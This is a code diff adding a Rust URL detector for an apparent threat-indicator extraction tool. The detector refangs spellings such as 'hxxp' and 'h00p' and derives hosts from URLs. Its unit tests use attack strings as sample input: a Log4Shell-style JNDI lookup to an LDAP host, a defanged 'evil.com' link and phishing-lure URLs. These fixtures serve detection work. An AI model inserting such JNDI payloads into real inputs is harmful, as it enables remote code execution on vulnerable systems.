@@ -1,9 +1,503 @@
-//! Detector stub, to be replaced.
+//! URLs, anchored on `://` (or `:\\`).
+//!
+//! The scheme is read leftwards from the anchor (defanged spellings such
+//! as `hxxp`, `h**p`, `h00p` and `fxp` included), the authority is split
+//! into user info, host and port, and the path runs to the first
+//! terminator. Trailing sentence punctuation and unbalanced closing
+//! brackets are trimmed. The host is reported beside the URL as a
+//! `derived` domain or IP.
 
+use memchr::memchr_iter;
+
+use super::chars::{char_at, is_unicode_terminator, ByteSet};
+use super::hostname::{self, HostPolicy};
 use super::Candidate;
-use crate::Limits;
+use crate::{Category, Limits};
 
-/// Pushes every candidate found in `text`.
+/// Network schemes reported, lower case. Malware speaks more than HTTP.
+const SCHEMES: &[&str] = &[
+    "amqp",
+    "dict",
+    "file",
+    "ftp",
+    "ftps",
+    "git",
+    "gopher",
+    "http",
+    "https",
+    "imap",
+    "imaps",
+    "irc",
+    "ircs",
+    "ldap",
+    "ldaps",
+    "mms",
+    "mongodb",
+    "mqtt",
+    "mysql",
+    "nfs",
+    "nntp",
+    "pop3",
+    "postgres",
+    "postgresql",
+    "rdp",
+    "redis",
+    "rmi",
+    "rtmp",
+    "rtsp",
+    "sftp",
+    "sip",
+    "smb",
+    "smtp",
+    "smtps",
+    "socks",
+    "socks4",
+    "socks5",
+    "ssh",
+    "svn",
+    "tcp",
+    "telnet",
+    "tftp",
+    "udp",
+    "vnc",
+    "ws",
+    "wss",
+    "xmpp",
+];
+
+/// Schemes that may be found glued to the text before them, as happens
+/// when a binary's strings run together (`pathhttp://host`).
+const GLUED_SCHEMES: &[&str] = &["https", "http", "ftps", "ftp"];
+
+/// Longest scheme examined, in bytes.
+const MAX_SCHEME_LEN: usize = 16;
+
+/// Longest authority (user info, host and port) examined, in bytes.
+const MAX_AUTHORITY_LEN: usize = 512;
+
+/// Pushes every URL candidate, and its host as a derived candidate.
 pub(crate) fn find(text: &[u8], limits: &Limits, out: &mut Vec<Candidate>) {
-    let _ = (text, limits, out);
+    let mut consumed = 0;
+    for colon in memchr_iter(b':', text) {
+        if colon < consumed {
+            continue;
+        }
+        let separator = text.get(colon + 1..colon + 3);
+        if separator != Some(b"//") && separator != Some(b"\\\\") {
+            continue;
+        }
+        let Some((start, scheme)) = scheme_before(text, colon, consumed)
+        else {
+            continue;
+        };
+        consumed = colon + 3;
+        if let Some(end) = parse(text, start, colon, scheme, limits, out) {
+            consumed = end;
+        }
+    }
+}
+
+/// Finds the scheme ending at `colon`; returns its start and normalised
+/// name.
+fn scheme_before(
+    text: &[u8],
+    colon: usize,
+    floor: usize,
+) -> Option<(usize, &'static str)> {
+    let mut start = colon;
+    while start > floor
+        && colon - start < MAX_SCHEME_LEN
+        && text.get(start - 1).is_some_and(|&b| {
+            b.is_ascii_alphanumeric() || b"+-.*".contains(&b)
+        })
+    {
+        start -= 1;
+    }
+    let run = text.get(start..colon)?;
+    let glued = start
+        .checked_sub(1)
+        .and_then(|i| text.get(i))
+        .is_some_and(|b| b.is_ascii_alphanumeric());
+    if !glued {
+        if let Some(scheme) = known_scheme(run) {
+            return Some((start, scheme));
+        }
+    }
+    for scheme in GLUED_SCHEMES {
+        let Some(offset) = run.len().checked_sub(scheme.len()) else {
+            continue;
+        };
+        let tail = run.get(offset..)?;
+        if known_scheme(tail) == Some(scheme) && offset > 0 {
+            return Some((start + offset, scheme));
+        }
+    }
+    None
+}
+
+/// Maps a scheme as written, defanged spellings included, to its name.
+fn known_scheme(raw: &[u8]) -> Option<&'static str> {
+    let lower = raw.to_ascii_lowercase();
+    let refanged: &[u8] = match lower.as_slice() {
+        [b'h', a, b, b'p', rest @ ..]
+            if is_defang_pair(*a, *b) && (rest.is_empty() || rest == b"s") =>
+        {
+            if rest.is_empty() {
+                b"http"
+            } else {
+                b"https"
+            }
+        }
+        [b'f', b'x' | b'*', b'p', rest @ ..]
+            if rest.is_empty() || rest == b"s" =>
+        {
+            if rest.is_empty() {
+                b"ftp"
+            } else {
+                b"ftps"
+            }
+        }
+        other => other,
+    };
+    SCHEMES.iter().copied().find(|s| s.as_bytes() == refanged)
+}
+
+fn is_defang_pair(a: u8, b: u8) -> bool {
+    matches!(
+        (a, b),
+        (b't', b't')
+            | (b'x', b'x')
+            | (b'*', b'*')
+            | (b'0', b'0')
+            | (b'x', b't')
+            | (b't', b'x')
+    )
+}
+
+/// Bytes that end a URL wherever they appear: controls, space and the
+/// delimiters RFC 3986 leaves out of URLs.
+const TERMINATORS: ByteSet = ByteSet::new(
+    b"\x00\x01\x02\x03\x04\x05\x06\x07\x08\t\n\x0b\x0c\r\x0e\x0f\
+      \x10\x11\x12\x13\x14\x15\x16\x17\x18\x19\x1a\x1b\x1c\x1d\x1e\x1f\
+      \x7f \"'<>`{}|^\\",
+    false,
+);
+
+fn is_terminator(b: u8) -> bool {
+    TERMINATORS.contains(b)
+}
+
+/// Parses the URL whose scheme starts at `start`; pushes it and returns
+/// its end, or `None` when it is not a valid URL.
+fn parse(
+    text: &[u8],
+    start: usize,
+    colon: usize,
+    scheme: &'static str,
+    limits: &Limits,
+    out: &mut Vec<Candidate>,
+) -> Option<usize> {
+    let authority_start = colon + 3;
+    let authority_end = authority_end(text, authority_start)?;
+    let authority = text.get(authority_start..authority_end)?;
+    let host_offset = match memchr::memrchr(b'@', authority) {
+        Some(at) => at + 1,
+        None => 0,
+    };
+    let host_start = authority_start + host_offset;
+    let host_port = authority.get(host_offset..)?;
+    let host = parse_host(host_port, scheme)?;
+
+    let end = path_end(text, authority_end);
+    let end = trim_end(text, authority_end, end);
+    if end - start > limits.max_token_len {
+        return Some(end);
+    }
+
+    let mut value = String::with_capacity(end - start);
+    value.push_str(scheme);
+    value.push_str("://");
+    value.push_str(std::str::from_utf8(authority.get(..host_offset)?).ok()?);
+    value.push_str(&host.display);
+    value.push_str(std::str::from_utf8(host_port.get(host.len..)?).ok()?);
+    value.push_str(std::str::from_utf8(text.get(authority_end..end)?).ok()?);
+    out.push(Candidate::new(Category::Url, start, end, value));
+
+    if let Some((category, kind, host_value)) = host.derived {
+        let host_end = host_start + host.len;
+        let mut derived =
+            Candidate::new(category, host_start, host_end, host_value);
+        derived.kind = kind;
+        derived.derived = true;
+        out.push(derived);
+    }
+    Some(end)
+}
+
+/// Returns where the authority ends: at `/`, `?`, `#` or a terminator.
+fn authority_end(text: &[u8], from: usize) -> Option<usize> {
+    let mut end = from;
+    while let Some((c, len)) = char_at(text, end) {
+        let stop = if c.is_ascii() {
+            let b = c as u8;
+            is_terminator(b) || b"/?#".contains(&b)
+        } else {
+            is_unicode_terminator(c)
+        };
+        if stop {
+            break;
+        }
+        end += len;
+        if end - from > MAX_AUTHORITY_LEN {
+            return None;
+        }
+    }
+    if char_at(text, end).is_none() && end < text.len() {
+        // An invalid UTF-8 byte ends the authority like a terminator.
+        return Some(end);
+    }
+    Some(end)
+}
+
+/// A parsed host: its length in the authority (port excluded), how it is
+/// written in the URL's value, and what it adds to the report.
+struct Host {
+    len: usize,
+    display: String,
+    derived: Option<(Category, Option<&'static str>, String)>,
+}
+
+fn parse_host(host_port: &[u8], scheme: &str) -> Option<Host> {
+    if host_port.is_empty() {
+        // Only `file:///path` may leave the host out.
+        return (scheme == "file").then(|| Host {
+            len: 0,
+            display: String::new(),
+            derived: None,
+        });
+    }
+    if host_port.first() == Some(&b'[') {
+        let close = memchr::memchr(b']', host_port)?;
+        let inner = host_port.get(1..close)?;
+        let address = super::ip::parse(inner)?;
+        check_port(host_port.get(close + 1..)?)?;
+        let canonical = super::ip::canonical(&address);
+        return Some(Host {
+            len: close + 1,
+            display: format!("[{canonical}]"),
+            derived: Some((Category::Ip, Some("ipv6"), canonical)),
+        });
+    }
+    let host_len = memchr::memrchr(b':', host_port).unwrap_or(host_port.len());
+    let raw = host_port.get(..host_len)?;
+    check_port(host_port.get(host_len..)?)?;
+
+    let numeric = raw.iter().all(|b| b.is_ascii_digit() || *b == b'.');
+    if numeric {
+        let ip = super::domain::parse_ipv4(raw)?;
+        let value = super::domain::format_ipv4(ip);
+        return Some(Host {
+            len: host_len,
+            display: value.clone(),
+            derived: Some((Category::Ip, Some("ipv4"), value)),
+        });
+    }
+    let domain = hostname::normalize(raw, HostPolicy::Delimited)?;
+    Some(Host {
+        len: host_len,
+        display: domain.clone(),
+        derived: Some((Category::Domain, None, domain)),
+    })
+}
+
+/// Accepts an empty port part, or `:` with one to five digits up to 65535.
+fn check_port(port: &[u8]) -> Option<()> {
+    let Some(digits) = port.strip_prefix(b":") else {
+        return port.is_empty().then_some(());
+    };
+    if digits.is_empty() {
+        return Some(());
+    }
+    if digits.len() > 5 || !digits.iter().all(u8::is_ascii_digit) {
+        return None;
+    }
+    let value: u32 = std::str::from_utf8(digits).ok()?.parse().ok()?;
+    (value <= 65535).then_some(())
+}
+
+/// Returns where the path, query and fragment end: at a terminator, a
+/// square bracket (illegal outside the host), or a second scheme glued to
+/// the path (`.../pathhttp://...`).
+fn path_end(text: &[u8], from: usize) -> usize {
+    let mut end = from;
+    while let Some((c, len)) = char_at(text, end) {
+        if c.is_ascii() {
+            let b = c as u8;
+            if is_terminator(b) || b == b'[' || b == b']' {
+                break;
+            }
+            if b == b':' && text.get(end + 1..end + 3) == Some(b"//") {
+                if let Some(cut) = glued_scheme_start(text, from, end) {
+                    return cut;
+                }
+            }
+        } else if is_unicode_terminator(c) {
+            break;
+        }
+        end += len;
+    }
+    end
+}
+
+/// For `://` at `colon` inside a path, returns where a scheme glued to
+/// the preceding path text starts.
+fn glued_scheme_start(
+    text: &[u8],
+    floor: usize,
+    colon: usize,
+) -> Option<usize> {
+    let mut start = colon;
+    while start > floor
+        && colon - start < MAX_SCHEME_LEN
+        && text.get(start - 1).is_some_and(u8::is_ascii_alphanumeric)
+    {
+        start -= 1;
+    }
+    let run = text.get(start..colon)?;
+    for scheme in GLUED_SCHEMES {
+        let offset = run.len().checked_sub(scheme.len())?;
+        if run
+            .get(offset..)
+            .is_some_and(|t| t.eq_ignore_ascii_case(scheme.as_bytes()))
+            && offset > 0
+        {
+            return Some(start + offset);
+        }
+    }
+    None
+}
+
+/// Trims trailing punctuation and closing brackets that have no opening
+/// partner in the path.
+fn trim_end(text: &[u8], path_start: usize, mut end: usize) -> usize {
+    let path = text.get(path_start..end).unwrap_or_default();
+    let opened = path.iter().filter(|&&b| b == b'(').count();
+    let mut closed = path.iter().filter(|&&b| b == b')').count();
+    while end > path_start {
+        let Some(&last) = text.get(end - 1) else { break };
+        match last {
+            b'.' | b',' | b';' | b':' | b'!' | b'?' | b'*' | b'\'' | b'"' => {}
+            b')' if opened < closed => closed -= 1,
+            _ => break,
+        }
+        end -= 1;
+    }
+    end
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    fn values(text: &str) -> Vec<(Category, String)> {
+        let mut out = Vec::new();
+        find(text.as_bytes(), &Limits::default(), &mut out);
+        out.into_iter().map(|c| (c.category, c.value)).collect()
+    }
+
+    fn urls(text: &str) -> Vec<String> {
+        let all = values(text);
+        all.into_iter()
+            .filter(|(c, _)| *c == Category::Url)
+            .map(|(_, v)| v)
+            .collect()
+    }
+
+    #[test]
+    fn url_table() {
+        let cases: &[(&str, &[&str])] = &[
+            ("see HTTP://EXAMPLE.COM/ABC.", &["http://example.com/ABC"]),
+            ("hxxps://evil.com/a) ok", &["https://evil.com/a"]),
+            (
+                "(see http://x.example.com/a_(b))",
+                &["http://x.example.com/a_(b)"],
+            ),
+            (
+                "h00p://bigdeal.example.my/gH9BUAPd/js.js\"",
+                &["http://bigdeal.example.my/gH9BUAPd/js.js"],
+            ),
+            (
+                "${jndi:ldap://198.51.100.9:1389/Exploit}",
+                &["ldap://198.51.100.9:1389/Exploit"],
+            ),
+            (
+                "at hxxp://[2001:db8::10]:8080/admin x",
+                &["http://[2001:db8::10]:8080/admin"],
+            ),
+            (
+                "https://user:pw@Example.COM:8080/Path?Q=1#F",
+                &["https://user:pw@example.com:8080/Path?Q=1#F"],
+            ),
+            ("http://example. https:// http://example htp://a.com", &[]),
+            ("http://999.999.999.999/x", &[]),
+            (
+                "http://example.com/pathhttp://[::::]/bad",
+                &["http://example.com/path"],
+            ),
+            (
+                "go https://mirror.example.com/ now",
+                &["https://mirror.example.com/"],
+            ),
+            (
+                "ctrl/register.phphttp://gateway.local/redirect?t=1",
+                &["http://gateway.local/redirect?t=1"],
+            ),
+            ("file:///C:/Windows/x.exe", &["file:///C:/Windows/x.exe"]),
+        ];
+        for (text, expected) in cases {
+            assert_eq!(urls(text), *expected, "{text}");
+        }
+    }
+
+    #[test]
+    fn host_is_derived() {
+        let got = values("http://login.example.com@198.51.100.9/verify");
+        assert_eq!(
+            got,
+            [
+                (
+                    Category::Url,
+                    "http://login.example.com@198.51.100.9/verify".to_string()
+                ),
+                (Category::Ip, "198.51.100.9".to_string()),
+            ]
+        );
+    }
+
+    #[test]
+    fn unicode_userinfo_and_lookalike_slash() {
+        let text =
+            "Lure: https://example.com∕downloads∕tools∕@v2731-example.zip  x";
+        let got = values(text);
+        assert_eq!(
+            got[0].1,
+            "https://example.com∕downloads∕tools∕@v2731-example.zip"
+        );
+        assert_eq!(
+            got[1],
+            (Category::Domain, "v2731-example.zip".to_string())
+        );
+    }
+
+    #[test]
+    fn long_url_is_kept_whole() {
+        let text = format!("http://example.com/{}?q=1", "a".repeat(2500));
+        assert_eq!(urls(&text), [text]);
+    }
+
+    #[test]
+    fn scheme_flood_is_linear() {
+        assert!(urls(&"://".repeat(1 << 18)).is_empty());
+        assert!(urls(&"http://".repeat(1 << 17)).is_empty());
+    }
 }
